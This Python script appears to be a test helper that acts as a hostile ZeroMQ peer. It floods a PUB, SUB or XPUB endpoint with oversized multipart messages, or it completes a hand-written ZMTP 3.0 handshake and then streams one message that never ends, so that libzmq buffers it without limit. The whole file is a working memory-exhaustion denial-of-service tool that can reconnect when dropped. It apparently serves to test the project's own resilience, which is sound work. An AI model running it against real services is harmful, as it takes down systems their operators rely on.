"""A hostile peer as a real process: floods a socket with what ZeroMQ does not bound.

Modes:
  multiframe ENDPOINT  a plain pyzmq PUB (XSUB with --as SUB) connecting to ENDPOINT
                       and sending messages of FRAMES frames of FRAME_BYTES each, flat
                       out (every frame within the monitor's per-frame limit, the
                       message far beyond it).
  endless ENDPOINT     a raw TCP socket that speaks ZMTP 3.0's greeting by hand, then
                       sends one multipart message that never ends (frames of
                       FRAME_BYTES, each with the MORE flag). libzmq keeps an incomplete
                       message inside its pipe, unseen by the application, unbounded.
                       --as SUB makes it a subscriber (to attack a binding training
                       process's XPUB), else it is a PUB (to attack a monitor).

It prints "attacking" once connected, then how many bytes it sent, every second; it
runs until killed or for --seconds. With --reconnect it connects again when dropped.
"""

from __future__ import annotations

import argparse
import socket
import struct
import sys
import time

_GREETING = b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00")
_GREETING += b"\x00" + b"\x00" * 31  # as-server 0, filler


def _frame(body: bytes, more: bool = False, command: bool = False) -> bytes:
    flags = (1 if more else 0) | (4 if command else 0)
    if len(body) > 255:
        return bytes([flags | 2]) + struct.pack(">Q", len(body)) + body
    return bytes([flags, len(body)]) + body


def _ready(socket_type: str) -> bytes:
    name, value = b"Socket-Type", socket_type.encode()
    body = b"\x05READY" + bytes([len(name)]) + name + struct.pack(">I", len(value)) + value
    return _frame(body, command=True)


def _read_exactly(sock: socket.socket, count: int) -> bytes:
    data = b""
    while len(data) < count:
        chunk = sock.recv(count - len(data))
        if not chunk:
            raise ConnectionError("closed during the handshake")
        data += chunk
    return data


def _handshake(host: str, port: int, socket_type: str) -> socket.socket:
    """A TCP connection that has done ZMTP 3.0's NULL handshake as ``socket_type``."""
    sock = socket.create_connection((host, port), timeout=10)
    sock.sendall(_GREETING)
    _read_exactly(sock, 64)  # the other side's greeting
    sock.sendall(_ready(socket_type))
    flags = _read_exactly(sock, 1)[0]
    size = (
        struct.unpack(">Q", _read_exactly(sock, 8))[0] if flags & 2 else _read_exactly(sock, 1)[0]
    )
    _read_exactly(sock, size)  # its READY
    if socket_type == "SUB":  # subscribe to everything, as a monitor would
        sock.sendall(_frame(b"\x01"))
    sock.settimeout(None)
    return sock


def endless(host: str, port: int, frame_bytes: int, socket_type: str, until: float) -> int:
    sock = _handshake(host, port, socket_type)
    print("attacking", flush=True)
    chunk = _frame(b"x" * frame_bytes, more=True) * max(1, (256 * 1024) // (frame_bytes + 10))
    sent, report = 0, time.monotonic() + 1
    try:
        sock.sendall(_frame(b"evil", more=True))
        while time.monotonic() < until:
            sock.sendall(chunk)
            sent += len(chunk)
            if time.monotonic() >= report:
                print(f"sent {sent}", flush=True)
                report += 1
    except OSError:
        pass  # the other side dropped us
    finally:
        sock.close()
    return sent


def multiframe(endpoint: str, frames: int, frame_bytes: int, socket_type: str, until: float) -> int:
    import zmq

    ctx = zmq.Context()
    # a subscriber's side that can send (XSUB) to attack an XPUB, else a PUB
    pub = ctx.socket(zmq.XSUB if socket_type == "SUB" else zmq.PUB)
    pub.setsockopt(zmq.LINGER, 0)
    pub.setsockopt(zmq.SNDHWM, 4)
    pub.connect(endpoint)
    print("attacking", flush=True)
    message = [b"evil"] + [b"x" * frame_bytes] * (frames - 1)
    sent, report = 0, time.monotonic() + 1
    while time.monotonic() < until:
        pub.send_multipart(message)  # blocks when the pipe is full: flat out
        sent += frames * frame_bytes
        if time.monotonic() >= report:
            print(f"sent {sent}", flush=True)
            report += 1
    pub.close()
    ctx.term()
    return sent


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=("multiframe", "endless"))
    parser.add_argument("endpoint")
    parser.add_argument("--frames", type=int, default=32)
    parser.add_argument("--frame-bytes", type=int, help="default: 1 MiB (multiframe), 1000")
    parser.add_argument("--as", dest="socket_type", default="PUB", choices=("PUB", "SUB"))
    parser.add_argument("--seconds", type=float, default=3600.0)
    parser.add_argument("--reconnect", action="store_true")
    args = parser.parse_args()
    until = time.monotonic() + args.seconds
    if args.mode == "multiframe":
        size = 1024 * 1024 if args.frame_bytes is None else args.frame_bytes
        multiframe(args.endpoint, args.frames, size, args.socket_type, until)
        return
    host, port = args.endpoint.removeprefix("tcp://").rsplit(":", 1)
    while time.monotonic() < until:
        try:
            size = 1000 if args.frame_bytes is None else args.frame_bytes
            endless(host.strip("[]"), int(port), size, args.socket_type, until)
        except OSError as exc:
            print(f"dropped: {exc}", flush=True)
        if not args.reconnect:
            break
        print("reconnecting", flush=True)
        time.sleep(0.1)
    sys.exit(0)


if __name__ == "__main__":
    main()
